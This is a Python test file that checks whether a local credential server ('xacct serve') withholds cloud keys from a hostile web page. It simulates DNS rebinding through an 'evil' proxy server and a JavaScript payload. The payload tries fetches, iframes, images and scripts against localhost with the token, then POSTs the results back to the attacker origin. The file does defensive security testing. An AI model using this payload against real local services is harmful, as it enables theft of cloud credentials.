"""A web page in a real browser gets nothing from `xacct serve`, even if it knows the port and the token.

The browser uses the test as a proxy, which is what a rebound name looks like to it: one origin, whose page comes from
elsewhere, and whose later requests reach the server.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.support.home import TIMEOUT, Home
from tests.support.programs import need_one

from .served import TOKEN, serving

pytestmark = [pytest.mark.usefixtures("user"), pytest.mark.late]

BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")

PAGE = """<!DOCTYPE html><title>evil</title><script>
const [port, token] = [%(port)d, %(token)s];
const found = {};
const attempt = async (name, get) => {
  try { found[name] = String(await get()); } catch (error) { found[name] = "blocked: " + error; }
};
const read = (url, options) => async () => (await fetch(url, options)).text();
const load = (tag, url) => () => new Promise((done) => {
  const element = document.createElement(tag);
  element.onerror = () => done("error");
  element.onload = () => done("loaded " + (element.contentDocument?.documentElement.textContent ?? ""));
  element.src = url;
  document.body.append(element);
});
onload = async () => {
  const headers = { Authorization: token };
  await attempt("rebound", read("/prod", { headers }));
  await attempt("rebound navigation", load("iframe", "/prod"));
  for (const host of ["127.0.0.1", "localhost"]) {
    const url = `http://${host}:${port}/prod`;
    await attempt(`${host} with the token`, read(url, { headers }));
    await attempt(`${host} without it`, read(url));
    await attempt(`${host} no-cors`, read(url, { mode: "no-cors", headers }));
    await attempt(`${host} POST`, read(url, { method: "POST", body: token }));
    await attempt(`${host} image`, load("img", url));
    await attempt(`${host} script`, load("script", url));
    await attempt(`${host} iframe`, load("iframe", url));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(found) });
};
</script><body></body>"""


class Evil(ThreadingHTTPServer):
    """The browser's proxy. `port` is that of the server under attack."""

    daemon_threads = True

    def __init__(self, port: int, token: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.port = port
        self.page = (PAGE % {"port": port, "token": json.dumps(token)}).encode()
        self.report: dict[str, str] = {}
        self.reported = threading.Event()


class _Handler(BaseHTTPRequestHandler):
    server: Evil

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        if path == "/page":
            self._answer(self.server.page)
            return
        with socket.create_connection(("127.0.0.1", self.server.port), TIMEOUT) as target:
            headers = "\r\n".join(f"{name}: {value}" for name, value in self.headers.items())
            target.sendall(f"GET {path} HTTP/1.1\r\n{headers}\r\n\r\n".encode())
            while data := target.recv(65536):
                self.wfile.write(data)
        self.close_connection = True

    def do_POST(self) -> None:
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")
        self.server.reported.set()

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def browsing(url: str, proxy: int, directory: Path) -> Iterator[None]:
    """Show a page in a browser."""
    program = need_one(*BROWSERS)
    process = subprocess.Popen(
        [
            program,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            f"--user-data-dir={directory}",
            f"--proxy-server=http://127.0.0.1:{proxy}",
            "--remote-debugging-port=0",
            url,
        ],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        # All of it: on Debian the program is a script, which starts the browser and waits.
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def test_serve_gives_nothing_to_a_page_in_a_browser(home: Home, prod: str, tmp_path: Path) -> None:
    with serving(home, prod) as server:
        document = server.ask().content
        with Evil(server.port, server.variables[TOKEN]) as evil:
            threading.Thread(target=evil.serve_forever, daemon=True).start()
            with browsing(f"http://evil.example:{server.port}/page", evil.server_port, tmp_path / "browser"):
                assert evil.reported.wait(TIMEOUT)
            evil.shutdown()
        assert server.stop() == (0, "")
    report = evil.report
    assert len(report) == 16
    assert not any(
        document[name] in json.dumps(report) for name in ("AccessKeyId", "SecretAccessKey", "Token")
    )
    assert json.loads(report["rebound"])["code"] == "Forbidden"
    assert '"Forbidden"' in report["rebound navigation"]
    for host in ("127.0.0.1", "localhost"):
        for attempt in ("with the token", "without it", "POST"):
            assert report[f"{host} {attempt}"] == "blocked: TypeError: Failed to fetch"
